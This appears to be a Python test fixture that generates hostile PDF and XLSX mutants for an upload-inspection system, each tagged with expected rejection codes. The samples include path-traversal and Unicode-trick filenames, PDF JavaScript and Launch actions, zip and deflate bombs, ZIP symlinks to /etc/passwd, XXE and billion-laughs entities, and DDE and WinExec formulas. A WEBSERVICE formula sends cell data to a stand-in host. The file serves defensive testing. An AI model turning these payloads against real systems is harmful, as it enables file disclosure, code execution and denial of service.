"""Files that nobody may hand in: families, each with as many mutants as are asked for, the same ones each time."""

from __future__ import annotations

import io
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.inspection.good import book, formulas, opened, report, saved

MEGABYTE = 1024 * 1024


@dataclass(frozen=True)
class Mutant:
    """A file with its name, and the codes of which it is refused with at least one."""

    name: str
    content: bytes
    codes: frozenset[str]
    # What its sender says of its size; its own where nothing is said.
    announced: int | None = None

    @property
    def size(self) -> int:
        return len(self.content) if self.announced is None else self.announced


Maker = Callable[[random.Random, int], Mutant]
FAMILIES: dict[str, Maker] = {}


def family(*codes: str) -> Callable[[Callable[[random.Random, int], tuple[str, bytes] | Mutant]], Maker]:
    """Register a maker; it gives a name and bytes, and the codes are those that are expected."""

    def register(made: Callable[[random.Random, int], tuple[str, bytes] | Mutant]) -> Maker:
        def maker(chance: random.Random, number: int) -> Mutant:
            found = made(chance, number)
            return found if isinstance(found, Mutant) else Mutant(*found, frozenset(codes))

        FAMILIES[made.__name__] = maker
        return maker

    return register


def mutant(name: str, number: int) -> Mutant:
    """One file of a family."""
    return FAMILIES[name](random.Random(f"{name} {number}"), number)  # noqa: S311 - nothing is kept secret by it


@cache
def pdf() -> bytes:
    return report(2)


@cache
def xlsx() -> bytes:
    return book(formulas)


def changed(change: Callable[[pikepdf.Pdf], None], number: int = 0) -> bytes:
    """The report, changed; every other one with its objects packed together."""
    modes = list(pikepdf.ObjectStreamMode.__members__.values())
    with opened(pdf()) as document:
        change(document)
        return saved(document, object_stream_mode=modes[number % len(modes)])


Parts = dict[str, bytes]


def repacked(change: Callable[[Parts], None]) -> bytes:
    """The workbook with its parts changed."""
    with zipfile.ZipFile(io.BytesIO(xlsx())) as source:
        parts = {one: source.read(one) for one in source.namelist()}
    change(parts)
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in parts.items():
            target.writestr(name, content)
    return into.getvalue()


def put(part: str, after: bytes, text: bytes) -> Callable[[Parts], None]:
    """Put a text behind another in a part, which must have it."""

    def change(parts: Parts) -> None:
        assert after in parts[part], part
        parts[part] = parts[part].replace(after, after + text, 1)

    return change


def both(*changes: Callable[[Parts], None]) -> Callable[[Parts], None]:
    def change(parts: Parts) -> None:
        for one in changes:
            one(parts)

    return change


def added(name: str, content: bytes = b"<x/>") -> Callable[[Parts], None]:
    """Add a part."""
    return lambda parts: parts.update({name: content})


SHEET = "xl/worksheets/sheet1.xml"
TYPES = "[Content_Types].xml"
RELATIONS = "xl/_rels/workbook.xml.rels"
TYPES_END = b'content-types">'
RELATIONS_BEGIN = b'relationships">'


def typed(name: str, kind: str) -> Callable[[Parts], None]:
    """State the content type of a part."""
    return put(TYPES, TYPES_END, f'<Override PartName="/{name}" ContentType="{kind}"/>'.encode())


def related(kind: str, target: str, mode: str = "Internal") -> Callable[[Parts], None]:
    """Let the workbook refer to something."""
    said = f'<Relationship Id="rId9{len(target)}" Type="http://example.org/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return put(RELATIONS, RELATIONS_BEGIN, said.encode())


# --- Names, sizes, first bytes --------------------------------------------------------------------


@family("DOC-05")
def nothing_in_it(_chance: random.Random, number: int) -> tuple[str, bytes]:
    return f"report {number}.{('pdf', 'xlsx')[number % 2]}", b""


@family("DOC-06")
def too_large(_chance: random.Random, number: int) -> Mutant:
    return Mutant(f"report {number}.pdf", b"", frozenset({"DOC-06"}), 25 * MEGABYTE + 1 + number * MEGABYTE)


@family("DOC-07")
def noise(chance: random.Random, number: int) -> tuple[str, bytes]:
    return f"noise {number}.{('pdf', 'xlsx')[number % 2]}", b"\x00" + chance.randbytes(chance.randint(1, 5000))


@family("DOC-07")
def page_before_the_document(chance: random.Random, number: int) -> tuple[str, bytes]:
    before = (b"<html><script>alert(1)</script>", b"GIF89a", b"MZ\x90\x00", b"\n", b"\xef\xbb\xbf", b"%!PS\n", b"\x89PNG\r\n")
    return f"both {number}.pdf", before[number % len(before)] + b" " * chance.randint(0, 900) + pdf()


@family("DOC-07")
def the_other_ending(_chance: random.Random, number: int) -> tuple[str, bytes]:
    return (f"sheet {number}.pdf", xlsx()) if number % 2 else (f"report {number}.xlsx", pdf())


@family("DOC-07")
def program(chance: random.Random, number: int) -> tuple[str, bytes]:
    begins = (b"MZ", b"\x7fELF", b"#!/bin/sh\n", b"\xca\xfe\xba\xbe", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"Rar!\x1a\x07")
    return f"setup {number}.{('pdf', 'xlsx')[number % 2]}", begins[number % len(begins)] + chance.randbytes(300)


@family("DOC-03")
def turned_around_name(chance: random.Random, number: int) -> tuple[str, bytes]:
    marks = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"
    place = chance.randint(1, 6)
    return "report"[:place] + marks[number % len(marks)] + "report"[place:] + f"{number}.pdf", pdf()


@family("DOC-03")
def unseen_in_the_name(chance: random.Random, number: int) -> tuple[str, bytes]:
    marks = "\u200b\u200c\u200d\u2060\ufeff\u00ad\x00\x01\x07\x1b\x7f\x85\u2028\u2029\ue000\t\n\r"
    place = chance.randint(1, 6)
    return "report"[:place] + marks[number % len(marks)] + "report"[place:] + f"{number}.pdf", pdf()


@family("DOC-03")
def way_in_the_name(chance: random.Random, number: int) -> tuple[str, bytes]:
    ways = ("../", "..\\", "/etc/", "C:\\", "....//", "a/b/", "\\\\server\\share\\", "./")
    return ways[number % len(ways)] * chance.randint(1, 4) + f"report {number}.pdf", pdf()


@family("DOC-02")
def long_name(_chance: random.Random, number: int) -> tuple[str, bytes]:
    return ("検証" if number % 2 else "ab") * (75 + number) + ".pdf", pdf()


@family("DOC-04")
def other_ending(_chance: random.Random, number: int) -> tuple[str, bytes]:
    endings = (
        ".exe",
        ".docx",
        ".xlsm",
        ".xls",
        ".html",
        ".svg",
        ".zip",
        "",
        ".pdf ",
        ".pdf.",
        ".PDF.exe",
        ".xlsb",
        ".js",
        ".csv",
    )
    return f"report {number}{endings[number % len(endings)]}", pdf()


@family("DOC-12")
def two_endings(_chance: random.Random, number: int) -> tuple[str, bytes]:
    endings = (".exe", ".docm", ".js", ".HTML", ".bat", ".scr", ".xlsm", ".pdf", ".zip", ".lnk", ".vbs", ".xlsx", ".ps1")
    return f"report {number}{endings[number % len(endings)]}.pdf", pdf()


# --- PDF ------------------------------------------------------------------------------------------


@family("INS-02", "INS-11")
def cut_off(chance: random.Random, number: int) -> tuple[str, bytes]:
    return f"cut {number}.pdf", pdf()[: chance.randint(9, len(pdf()) - 30)]


@family("INS-02")
def lost_table(chance: random.Random, number: int) -> tuple[str, bytes]:
    content = changed(lambda _document: None)
    place = content.rindex(b"startxref") + 10
    wrong = str(chance.randint(1, 10**7)).encode()
    return f"table {number}.pdf", content[:place] + wrong + b"\n%%EOF\n"


@family("INS-01")
def locked(chance: random.Random, number: int) -> tuple[str, bytes]:
    strength, user = (2, 3, 4, 6)[number % 4], ("", "secret")[number // 4 % 2]
    with opened(pdf()) as document:
        key = pikepdf.Encryption(owner=str(chance.random())[:20], user=user, R=strength, aes=strength > 3, metadata=strength > 3)
        return f"locked {number}.pdf", saved(document, encryption=key)


def script() -> Dictionary:
    """An action that runs a script."""
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def _at_opening(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = script()


def _named_script(document: pikepdf.Pdf) -> None:
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))


def _at_a_page(document: pikepdf.Pdf) -> None:
    document.pages[0].AA = Dictionary(O=document.make_indirect(script()))


def _at_a_link(document: pikepdf.Pdf) -> None:
    document.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=script())])


def _next_to_an_action(document: pikepdf.Pdf) -> None:
    first = Dictionary(S=Name.GoTo, D=Array([document.pages[0].obj, Name.Fit]), Next=Array([script()]))
    document.Root.OpenAction = document.make_indirect(first)


def _in_a_stream(document: pikepdf.Pdf) -> None:
    code = document.make_stream(b"app.launchURL('http://example.org')")
    document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=code)


def _at_a_field(document: pikepdf.Pdf) -> None:
    field = Dictionary(FT=Name.Tx, T=String("a"), AA=Dictionary(K=script()))
    document.Root.AcroForm = Dictionary(Fields=Array([document.make_indirect(field)]))


def _in_an_outline(document: pikepdf.Pdf) -> None:
    entry = document.make_indirect(Dictionary(Title=String("a"), A=script()))
    document.Root.Outlines = document.make_indirect(Dictionary(Type=Name.Outlines, First=entry, Last=entry, Count=1))


SCRIPTED = (
    _at_opening, _named_script, _at_a_page, _at_a_link, _next_to_an_action, _in_a_stream, _at_a_field, _in_an_outline,
)  # fmt: skip


@family("INS-05")
def scripted(_chance: random.Random, number: int) -> tuple[str, bytes]:
    return f"script {number}.pdf", changed(SCRIPTED[number % len(SCRIPTED)], number // len(SCRIPTED))


@family("INS-05")
def spelled_otherwise(chance: random.Random, number: int) -> tuple[str, bytes]:
    """A name with escapes is the same name."""
    content = changed(_at_opening)
    spelled = "".join(f"#{ord(one):02x}" if chance.random() < 0.5 else one for one in "JavaScript").encode()
    spelled = spelled if b"#" in spelled else b"#4aavaScript"
    return f"spelled {number}.pdf", _same_places(content, b"/JavaScript", b"/" + spelled)


def _same_places(content: bytes, old: bytes, new: bytes) -> bytes:
    """Replace a name, and mend the table of places."""
    at = content.index(old)
    longer = len(new) - len(old)
    moved = content[:at] + new + content[at + len(old) :]
    table = moved.rindex(b"xref\n", 0, moved.rindex(b"startxref"))

    def shifted(found: re.Match[bytes]) -> bytes:
        place = int(found[1])
        return b"%010d %s" % (place + longer if place > at else place, found[2])

    mended = re.sub(rb"(\d{10}) (\d{5} n)", shifted, moved[table:])
    return moved[:table] + re.sub(rb"startxref\n\d+", b"startxref\n%d" % table, mended)


def action(kind: str, **more: pikepdf.Object | str) -> Callable[[pikepdf.Pdf], None]:
    """Let a link, the opening or a page do something."""

    def change(document: pikepdf.Pdf) -> None:
        given = {key: String(value) if isinstance(value, str) else value for key, value in more.items()}
        document.pages[-1].Annots = Array(
            [Dictionary(Type=Name.Annot, Subtype=Name.Link, A=Dictionary(S=Name("/" + kind), **given))]
        )

    return change


@family("INS-06")
def starts_a_program(chance: random.Random, number: int) -> tuple[str, bytes]:
    target = chance.choice(["cmd.exe", "/bin/sh", "calc.exe", "a.bat"])
    return f"launch {number}.pdf", changed(action("Launch", F=target), number)


@family("INS-06")
def sends_what_is_filled_in(chance: random.Random, number: int) -> tuple[str, bytes]:
    kind = ("SubmitForm", "ImportData")[number % 2]
    return f"send {number}.pdf", changed(action(kind, F=f"http://example.org/{chance.random()}"), number)


@family("INS-06")
def leads_to_another_file(chance: random.Random, number: int) -> tuple[str, bytes]:
    kind = ("GoToR", "GoToE")[number % 2]
    return f"lead {number}.pdf", changed(action(kind, F=chance.choice(["\\\\server\\share\\a.pdf", "b.pdf"]), D="a"), number)


@family("INS-07")
def attached(chance: random.Random, number: int) -> tuple[str, bytes]:
    def change(document: pikepdf.Pdf) -> None:
        if number % 3:
            document.attachments[f"a{number}.txt"] = chance.randbytes(50)
        else:
            stream = document.make_stream(b"hidden")
            spec = Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=stream))
            pin = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, FS=spec, Rect=[0, 0, 9, 9])
            document.pages[0].Annots = Array([pin])

    return f"attached {number}.pdf", changed(change, number)


@family("INS-08")
def old_form(chance: random.Random, number: int) -> tuple[str, bytes]:
    def change(document: pikepdf.Pdf) -> None:
        text = document.make_stream(b"<xdp:xdp>%d</xdp:xdp>" % chance.randint(0, 10**6))
        form = text if number % 2 else Array([String("template"), text])
        document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=form)

    return f"form {number}.pdf", changed(change, number)


@family("INS-09")
def film(chance: random.Random, number: int) -> tuple[str, bytes]:
    kind = ("RichMedia", "Movie", "Sound", "Screen", "3D")[number % 5]

    def change(document: pikepdf.Pdf) -> None:
        one = Dictionary(Type=Name.Annot, Subtype=Name("/" + kind), Rect=[0, 0, chance.randint(1, 99), 9])
        document.pages[0].Annots = Array([document.make_indirect(one) if number % 2 else one])

    return f"film {number}.pdf", changed(change, number)


@cache
def _many_pages() -> bytes:
    with pikepdf.new() as document:
        for _ in range(2_001):
            document.add_blank_page()
        return saved(document)


@family("INS-04")
def too_many_pages_or_none(_chance: random.Random, number: int) -> tuple[str, bytes]:
    if number % 2:
        return f"pages {number}.pdf", _many_pages() + b" " * number
    with pikepdf.new() as document:
        document.Root.Number = number
        return f"none {number}.pdf", saved(document)


def swelling(megabytes: int) -> bytes:
    """What unpacks to so many megabytes of nothing: the same few bytes, said over and over."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    one = packer.compress(bytes(MEGABYTE)) + packer.flush(zlib.Z_FULL_FLUSH)
    return b"\x78\xda" + one * megabytes + b"\x03\x00" + struct.pack(">I", 1)


@family("INS-10")
def swelling_page(chance: random.Random, number: int) -> tuple[str, bytes]:
    with opened(pdf()) as document:
        stream = pikepdf.Stream(document, swelling(150 + chance.randint(0, 400)))
        stream.Filter = Name.FlateDecode if number % 2 else Array([Name.FlateDecode])
        document.pages[0].Contents = document.make_indirect(stream)
        return f"swelling {number}.pdf", saved(document, compress_streams=False)


@family("INS-10")
def packed_over_and_over(chance: random.Random, number: int) -> tuple[str, bytes]:
    times = chance.randint(2, 6)
    content = bytes(1000)
    for _ in range(times):
        content = zlib.compress(content)
    with opened(pdf()) as document:
        stream = pikepdf.Stream(document, content)
        stream.Filter = Array([(Name.FlateDecode, Name.Fl)[(number + one) % 2] for one in range(times)])
        document.pages[0].Contents = document.make_indirect(stream)
        return f"packed {number}.pdf", saved(document, compress_streams=False)


@family("INS-11", "INS-02")
def something_behind(chance: random.Random, number: int) -> tuple[str, bytes]:
    behind = (xlsx(), b"<script>alert(1)</script>", b"MZ" + chance.randbytes(500), b"PK\x03\x04" + chance.randbytes(90), b"x")
    return f"behind {number}.pdf", pdf() + behind[number % len(behind)]


@family("INS-02", "INS-03")
def nested_without_end(chance: random.Random, number: int) -> tuple[str, bytes]:
    depth = chance.randint(600, 40_000)
    begins, ends = ((b"[", b"]"), (b"<</A ", b">>"))[number % 2]
    body = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/X " + begins * depth + b"1" + ends * depth + b">>\nendobj\n"
    pages = len(body)
    body += b"2 0 obj\n<</Type/Pages/Count 1/Kids[3 0 R]>>\nendobj\n"
    page = len(body)
    body += b"3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>\nendobj\n"
    table = len(body)
    places = b"".join(b"%010d 00000 n \n" % place for place in (9, pages, page))
    return f"nested {number}.pdf", (
        body + b"xref\n0 4\n0000000000 65535 f \n" + places + b"trailer\n<</Size 4/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % table
    )


# --- XLSX -----------------------------------------------------------------------------------------


@family("INS-02", "INS-14")
def cut_off_sheet(chance: random.Random, number: int) -> tuple[str, bytes]:
    return f"cut {number}.xlsx", xlsx()[: chance.randint(5, len(xlsx()) - 1)]


@family("INS-10")
def swelling_sheet(chance: random.Random, number: int) -> tuple[str, bytes]:
    name = (SHEET, "xl/media/image1.png", "xl/theme/theme1.xml")[number % 3]
    return f"swelling {number}.xlsx", repacked(added(name, b"<a>" + b" " * chance.randint(3, 30) * MEGABYTE + b"</a>"))


@family("INS-02")
def lying_about_sizes(chance: random.Random, number: int) -> tuple[str, bytes]:
    """The directory says that an entry is shorter, or longer, than it is."""
    content = bytearray(xlsx())
    at = content.index(b"PK\x01\x02")
    for _ in range(chance.randint(0, 5)):
        at = content.index(b"PK\x01\x02", at + 4)
    place = at + (24, 16)[number % 2]
    (said,) = struct.unpack_from("<I", content, place)
    struct.pack_into(
        "<I", content, place, (said + chance.randint(1, 99)) if number % 4 < 2 else max(0, said - chance.randint(1, 99))
    )
    return f"lying {number}.xlsx", bytes(content)


@family("INS-12")
def too_many_parts(chance: random.Random, number: int) -> tuple[str, bytes]:
    names = {f"xl/media/{one}.png": b"" for one in range(2_000 + chance.randint(0, 50))}
    return f"parts {number}.xlsx", repacked(lambda parts: parts.update(names))


@family("INS-12")
def way_out_of_the_archive(chance: random.Random, number: int) -> tuple[str, bytes]:
    ways = ("../../etc/passwd", "/etc/passwd", "xl/../../a.xml", "C:a.xml", "xl\\..\\a.xml", "xl/a\x07.xml", "..", "a/..")
    return f"way {number}.xlsx", repacked(added(ways[number % len(ways)], chance.randbytes(9 + number)))


@family("INS-12")
def twice_or_linked(_chance: random.Random, number: int) -> tuple[str, bytes]:
    into = io.BytesIO(xlsx())
    with zipfile.ZipFile(into, "a", zipfile.ZIP_DEFLATED) as target:
        if number % 2:
            target.writestr(SHEET.upper() if number % 4 == 1 else "XL/workbook.xml", b"<other/>")
        else:
            link = zipfile.ZipInfo(f"xl/media/{number}.png")
            link.external_attr = 0o120777 << 16
            target.writestr(link, "/etc/passwd")
    return f"twice {number}.xlsx", into.getvalue()


@family("INS-11", "INS-12", "INS-02")
def something_around(chance: random.Random, number: int) -> tuple[str, bytes]:
    content = xlsx()
    if number % 3 == 0:
        return f"around {number}.xlsx", content + chance.randbytes(chance.randint(1, 300))
    if number % 3 == 1:
        return f"around {number}.xlsx", b"PK\x03\x04" + chance.randbytes(chance.randint(30, 300)) + content
    into = io.BytesIO(content)
    with zipfile.ZipFile(into, "a") as target:
        target.comment = b"<script>" + chance.randbytes(20).hex().encode()
    return f"around {number}.xlsx", into.getvalue()


@family("INS-01", "INS-12")
def locked_or_packed_otherwise(_chance: random.Random, number: int) -> tuple[str, bytes]:
    if number % 3:
        into = io.BytesIO(xlsx())
        with zipfile.ZipFile(into, "a", (zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA)[number % 2]) as target:
            target.writestr(f"xl/more{number}.xml", b"<a/>" * 9)
        return f"packed {number}.xlsx", into.getvalue()
    content = bytearray(xlsx())
    at = content.index(b"PK\x01\x02")
    content[at + 8] |= 1
    content[6] |= 1
    return f"locked {number}.xlsx", bytes(content) + b""


@family("INS-15")
def with_macros(chance: random.Random, number: int) -> tuple[str, bytes]:
    kinds = (
        added("xl/vbaProject.bin", chance.randbytes(40)),
        both(added("xl/x.bin", b"x"), typed("xl/x.bin", "application/vnd.ms-office.vbaProject")),
        both(added("xl/macrosheets/sheet1.xml"), typed("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml")),
        typed("xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        related("vbaProject", "vbaProject.bin"),
        both(added("xl/i.xml"), typed("xl/i.xml", "application/vnd.ms-excel.intlmacrosheet+xml")),
    )
    return f"macro {number}.xlsx", repacked(both(kinds[number % len(kinds)], added(f"xl/media/{number}.png", b"")))


@family("INS-16")
def data_from_elsewhere(_chance: random.Random, number: int) -> tuple[str, bytes]:
    kinds = (
        added("xl/externalLinks/externalLink1.xml"),
        added("xl/connections.xml"),
        added("xl/queryTables/queryTable1.xml"),
        related("image", "http://example.org/a.png", "External"),
        related("externalLinkPath", "file:///C:/a.xlsx", "External"),
        related("hyperlink", "\\\\server\\share\\a.exe", "External"),
        related("hyperlink", "file:///etc/passwd", "External"),
        related("worksheet", "../../../a.xml"),
        related("hyperlink", "javascript:alert(1)", "External"),
    )
    return f"elsewhere {number}.xlsx", repacked(both(kinds[number % len(kinds)], added(f"xl/media/{number}.png", b"")))


OUTWARD = (
    "cmd|'/c calc'!A0", "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''", 'DDE("cmd","/c calc","!A0")',
    'WEBSERVICE("http://example.org/"&A1)', 'RTD("a",,"b")', 'CALL("kernel32","WinExec","JCJ","calc",0)', 'EXEC("calc")',
    "[1]Sheet1!A1", "'[other.xlsx]Sheet1'!A1", "'\\\\server\\share\\[a.xlsx]S'!A1", 'IMAGE("http://example.org/a.png")',
    'HYPERLINK("file:///C:/a.exe","x")', 'HYPERLINK("\\\\server\\a","x")', "'http://example.org/[a.xlsx]S'!A1",
    'REGISTER.ID("a","b")', " rundll32 | 'a' ! b",
)  # fmt: skip


@family("INS-20")
def formula_that_reaches_out(_chance: random.Random, number: int) -> tuple[str, bytes]:
    formula = OUTWARD[number % len(OUTWARD)].replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    if number >= len(OUTWARD):
        formula = formula.replace("|", "&#124;").replace("[", "&#x5b;")
    places = (
        put(SHEET, b"<sheetData>", f'<row r="99"><c r="A99"><f>{formula}</f></c></row>'.encode()),
        put("xl/workbook.xml", b"<definedNames>", f'<definedName name="n{number}">{formula}</definedName>'.encode()),
        put(SHEET, b"</sheetData>", f"<dataValidation><formula1>{formula}</formula1></dataValidation>".encode()),
    )  # fmt: skip
    return f"formula {number}.xlsx", repacked(places[number % len(places)])


@family("INS-17")
def embedded(chance: random.Random, number: int) -> tuple[str, bytes]:
    kinds = (
        added("xl/embeddings/oleObject1.bin", chance.randbytes(30)),
        added("xl/activeX/activeX1.xml"),
        added("xl/ctrlProps/ctrlProp1.xml"),
        put(
            SHEET, b"</sheetData>", b'<oleObjects><oleObject progId="Package" r:id="rId1"/></oleObjects>'.replace(b"r:id", b"id")
        ),
        both(added("xl/p.xml"), typed("xl/p.xml", "application/vnd.openxmlformats-officedocument.oleObject")),
    )
    return f"embedded {number}.xlsx", repacked(both(kinds[number % len(kinds)], added(f"xl/media/{number}.png", b"")))


@family("INS-19")
def declares_entities(_chance: random.Random, number: int) -> tuple[str, bytes]:
    types = (
        b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE a [<!ENTITY x "ha"><!ENTITY y "&x;&x;&x;&x;"><!ENTITY z "&y;&y;&y;&y;">]>',
        b'<!DOCTYPE a SYSTEM "http://example.org/a.dtd">',
        b"<!DOCTYPE a>",
    )
    parts = (SHEET, "xl/workbook.xml", "xl/styles.xml", "docProps/core.xml", "_rels/.rels")
    part = parts[number % len(parts)]

    def change(found: Parts) -> None:
        text = re.sub(rb"\A<\?xml[^>]*\?>\s*", b"", found[part])
        found[part] = types[number % len(types)] + text

    return f"entities {number}.xlsx", repacked(change)


@family("INS-19")
def broken_xml(chance: random.Random, number: int) -> tuple[str, bytes]:
    kinds: tuple[Callable[[bytes], bytes], ...] = (
        lambda text: text[: chance.randint(1, len(text) - 1)],
        lambda text: text + b"<more/>",
        lambda _text: chance.randbytes(200),
        lambda _text: b"<a>" * 500 + b"</a>" * 500,
        lambda text: text.replace(b"<", b"<\x01", 1),
    )
    parts = (SHEET, "xl/workbook.xml", "xl/styles.xml")
    part = parts[number % len(parts)]
    return f"broken {number}.xlsx", repacked(lambda found: found.update({part: kinds[number % len(kinds)](found[part])}))


@family("INS-13")
def archive_in_the_archive(chance: random.Random, number: int) -> tuple[str, bytes]:
    inner = (xlsx(), b"Rar!\x1a\x07\x00", b"7z\xbc\xaf\x27\x1c\x00", b"MZ\x90\x00", b"\x7fELF\x02", b"\x1f\x8b\x08\x00")
    name = chance.choice(["xl/media/image1.png", "xl/printerSettings/printerSettings1.bin", "customXml/item1.xml"])
    return f"archive {number}.xlsx", repacked(added(name, inner[number % len(inner)] + chance.randbytes(9)))


@family("INS-14")
def no_workbook(chance: random.Random, number: int) -> tuple[str, bytes]:
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w", zipfile.ZIP_DEFLATED) as target:
        target.writestr("word/document.xml" if number % 2 else "a.txt", b"<a/>" if number % 2 else chance.randbytes(9))
        if number % 2:
            kind = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
            target.writestr(TYPES, b'<Types><Override PartName="/word/document.xml" ContentType="%s"/></Types>' % kind)
    return f"other {number}.xlsx", into.getvalue()


@family("INS-18")
def parts_of_another_kind(_chance: random.Random, number: int) -> tuple[str, bytes]:
    kinds = (
        "application/x-msdownload", "text/html", "application/javascript", "application/vnd.ms-excel.sheet.binary.main",
        "application/x-shockwave-flash", "application/pdf", "application/octet-stream", "application/hta",
    )  # fmt: skip
    part = f"xl/other{number}.bin"
    menus = added("customUI/customUI14.xml")
    return f"kind {number}.xlsx", repacked(
        menus if number % 5 == 4 else both(added(part, b"x"), typed(part, kinds[number % len(kinds)]))
    )
